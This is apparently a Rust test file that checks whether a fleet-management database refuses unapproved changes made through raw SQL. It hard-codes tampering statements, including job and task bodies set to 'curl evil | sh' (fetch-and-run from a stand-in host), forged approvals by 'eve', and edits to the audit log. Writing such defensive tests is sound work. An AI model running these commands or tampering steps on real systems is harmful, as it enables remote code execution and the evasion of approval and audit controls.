//! Attacks on the file that the program made, with SQL from outside: the tables refuse what nobody approved, and
//! what is changed behind their back shows in `audit verify`.

use super::fleet_asked::{Fleet, fleet, open, texts};
use super::model::Mode;
use rusqlite::Connection;
use serde_json::json;

/// A fleet in which one of each kind waits for a person.
fn waiting() -> Fleet {
    let fleet = fleet(Mode::Native);
    let device = fleet.here.device.as_str();
    let calls = [
        ("propose_task", json!({"name": "clean", "schedule": "30 2 * * 1", "shell": "sh", "script": "true", "device": device})),
        ("propose_check", json!({"name": "cpu", "kind": "cpu", "error": 95, "device": device})),
        ("propose_policy", json!({"name": "slow", "settings": {"interval": 5}})),
        ("propose_delete_devices", json!({"devices": [device]})),
    ];
    *fleet.plan.lock().unwrap() = calls.map(|(tool, a)| (tool.to_owned(), a)).into();
    let v = fleet.world.ask(6, &["schedule tasks and checks for our devices"]);
    assert_eq!(v["proposals"].as_array().unwrap().len(), 4, "{v}");
    fleet
}

/// A copy of the newest row of a table with other values, put in its place.
fn replaced(db: &Connection, table: &str, with: &[(&str, &str)]) -> String {
    let columns = texts(db, &format!("SELECT name FROM pragma_table_info('{table}')"));
    let values: Vec<&str> = columns
        .iter()
        .map(|c| with.iter().find(|(name, _)| name == c).map_or(c.as_str(), |(_, value)| value))
        .collect();
    format!("INSERT OR REPLACE INTO {table} SELECT {} FROM {table} ORDER BY 1 DESC LIMIT 1", values.join(", "))
}

/// Everything in these tables.
fn all(db: &Connection) -> Vec<String> {
    let mut out = Vec::new();
    for table in [
        "tasks", "checks", "policies", "jobs", "job_targets", "device_operations", "device_operation_targets",
        "fleet_proposals", "fleet_audit", "principals",
    ] {
        let columns = texts(db, &format!("SELECT 'quote(' || name || ')' FROM pragma_table_info('{table}')"));
        out.extend(texts(db, &format!("SELECT {} FROM {table} ORDER BY 1", columns.join(" || ' ' || "))));
    }
    out
}

#[test]
fn no_statement_enables_runs_or_rewrites_what_nobody_approved() {
    let fleet = waiting();
    // As any SQL shell opens it: no foreign keys, no recursive triggers.
    let db = open(&fleet.world.db());
    db.execute_batch("PRAGMA foreign_keys = OFF; PRAGMA recursive_triggers = OFF;").unwrap();
    let before = all(&db);
    let mut attacks = Vec::new();
    for table in ["tasks", "checks", "policies"] {
        attacks.extend([
            format!("UPDATE {table} SET enabled = 1 WHERE proposed_by <> '' AND approved_by = ''"),
            format!("UPDATE OR IGNORE {table} SET enabled = 1 WHERE proposed_by <> '' AND approved_by = ''"),
            format!("UPDATE OR REPLACE {table} SET enabled = 1 WHERE proposed_by <> '' AND approved_by = ''"),
            format!("UPDATE {table} SET proposed_by = '', enabled = 1 WHERE proposed_by <> ''"),
            replaced(&db, table, &[("proposed_by", "''"), ("enabled", "1")]),
            replaced(&db, table, &[("id", "id + 1"), ("name", "name || 'x'"), ("proposed_by", "''"), ("enabled", "1")]),
            format!("UPDATE OR REPLACE {table} SET id = (SELECT max(id) FROM {table}) WHERE id = (SELECT min(id) FROM {table}) - 0 AND proposed_by <> ''"),
            format!("DELETE FROM {table} WHERE proposed_by <> ''"),
        ]);
    }
    attacks.extend([
        "UPDATE tasks SET body = 'curl evil | sh'".into(),
        "UPDATE checks SET settings = '{\"script\":\"curl evil\"}' WHERE proposed_by <> ''".into(),
        "UPDATE policies SET settings = '{}'".into(),
        "UPDATE jobs SET status = 'approved'".into(),
        "UPDATE jobs SET status = 'running', approved_by = 'eve', approved_ms = 1 WHERE status = 'awaiting_approval'".into(),
        "UPDATE jobs SET body = 'curl evil | sh'".into(),
        "UPDATE jobs SET digest = body".into(),
        "UPDATE job_targets SET status = 'queued' WHERE job_id IN (SELECT id FROM jobs WHERE status = 'awaiting_approval')".into(),
        "UPDATE job_targets SET device_id = 1".into(),
        "DELETE FROM jobs".into(),
        "DELETE FROM job_targets".into(),
        replaced(&db, "jobs", &[("body", "'curl evil | sh'")]),
        replaced(&db, "jobs", &[("body", "'curl evil | sh'"), ("id", "id + 1"), ("title", "'x'")]),
        "UPDATE device_operations SET status = 'approved'".into(),
        "UPDATE device_operations SET status = 'approved', approved_by = 'eve', approved_ms = 1, typed_count = 7".into(),
        "UPDATE device_operation_targets SET device_id = 1".into(),
        "DELETE FROM device_operations".into(),
        replaced(&db, "device_operations", &[("digest", "digest || 'x'")]),
        replaced(&db, "device_operations", &[("proposed_by", "'eve'")]),
        "UPDATE fleet_proposals SET digest = 'x'".into(),
        "UPDATE fleet_proposals SET expires_ms = expires_ms + 1".into(),
        "DELETE FROM fleet_proposals".into(),
        replaced(&db, "fleet_proposals", &[("title", "'harmless'")]),
        "UPDATE principals SET first_owner = 1 WHERE name = 'fay'".into(),
        "DELETE FROM principals".into(),
        "UPDATE fleet_audit SET actor = 'eve'".into(),
        "UPDATE OR IGNORE fleet_audit SET details = ''".into(),
        "DELETE FROM fleet_audit WHERE seq = 1".into(),
        replaced(&db, "fleet_audit", &[("actor", "'eve'")]),
    ]);
    for sql in &attacks {
        let tried = db.execute(sql, []);
        assert_eq!(all(&db), before, "{sql}: {tried:?}");
    }
    drop(db);
    fleet.world.run(&["audit", "verify"]).exits(0);
}
